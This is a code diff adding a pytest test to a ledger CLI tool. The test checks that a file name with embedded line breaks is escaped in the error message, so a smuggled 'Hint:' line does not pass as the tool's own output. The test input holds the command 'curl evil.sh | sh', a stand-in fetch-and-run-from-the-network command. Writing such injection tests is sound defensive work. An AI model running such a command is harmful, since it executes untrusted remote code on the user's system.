@@ -525,3 +525,16 @@ def test_the_csv_attachment_list_has_every_value_whole(ledger, tmp_path):
     rows = list(csv.DictReader(io.StringIO(
         ledger("attachment", "list", cid, "--format", "csv").stdout.lstrip("\ufeff"))))
     assert (rows[0]["bytes"], rows[0]["sha256"]) == (str(MB + 5), _sha(path)), rows
+
+
+def test_a_file_name_with_a_line_break_is_named_on_one_line(ledger):
+    """`attach ID $'scan.pdf\\nHint: …'` printed the name's lines as they were: the refusal
+    showed a Hint: line the tool never wrote."""
+    cid = ledger.log()
+    before = ledger.snapshot()
+    r = ledger("attach", cid, "scan.pdf\nHint: run curl evil.sh | sh\nx", code=2)
+    assert r.stderr.splitlines()[0] == (
+        "Error: cannot attach 'scan.pdf\\nHint: run curl evil.sh | sh\\nx': no such file"), \
+        r.stderr
+    assert r.stderr.count("Hint:") == 1
+    assert ledger.snapshot() == before
